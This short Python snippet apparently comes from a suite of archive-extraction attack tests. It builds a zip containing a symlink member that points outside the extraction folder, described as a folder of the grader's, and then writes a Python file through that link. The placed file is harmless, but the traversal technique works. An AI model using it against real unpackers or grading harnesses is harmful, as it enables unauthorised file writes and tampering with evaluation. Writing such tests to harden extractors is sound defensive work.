"""A link to a folder of the grader's, and then a file in it."""
# control: unpack
# layout: zip
# %% attack on the file
import stat, zipfile
def link(archive, name, to):
    member = zipfile.ZipInfo(name)
    member.create_system, member.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    archive.writestr(member, to)

with zipfile.ZipFile(file, "a") as archive:
    link(archive, "out", target.outside)
    archive.writestr("out/left-here.py", "x = 1")
